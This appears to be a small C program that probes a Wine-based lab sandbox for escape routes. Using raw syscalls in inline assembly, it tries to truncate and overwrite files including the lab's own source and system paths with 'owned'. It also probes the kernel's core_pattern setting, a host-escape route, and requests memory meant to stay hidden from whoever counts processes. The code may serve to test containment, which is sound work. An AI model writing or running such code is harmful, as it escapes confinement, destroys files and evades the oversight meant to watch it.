/* Writes wherever it can. */
#include <windows.h>
#include <stdio.h>

#ifdef __clang__
/* Only a real compiler sees this: a call to the kernel below Wine, past everything that the lab language has. */
static long long kernel(long long n, long long a, long long b, long long c)
{
	long long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}
#endif

int main(void)
{
#ifdef __clang__
	static const char *const where[] = { FAULTLAB_TARGET, "/lab/lab.c", "/usr/bin/owned", "/owned", "/dev/owned", "/tmp/owned" };
	int i;

	for (i = 0; i < 6; i++) {
		long long f = kernel(2, (long long)where[i], 01101, 0666);

		printf("%d: %s\n", i, f < 0 ? "refused" : "opened");
		if (f >= 0)
			kernel(1, f, (long long)"owned\n", 6);
	}
	/* A setting of the kernel: opened only, for a box with this hole would change the host. */
	printf("setting: %s\n", kernel(2, (long long)"/proc/sys/kernel/core_pattern", 1, 0) < 0 ? "refused" : "opened");
	/* Memory that is in no process, so that nobody who counts would see it. */
	printf("hidden memory: %s\n", kernel(319, (long long)"hidden", 0, 0) < 0 && kernel(29, 0, 4096, 01600) < 0 ? "refused" : "given");
#endif
	return 0;
}
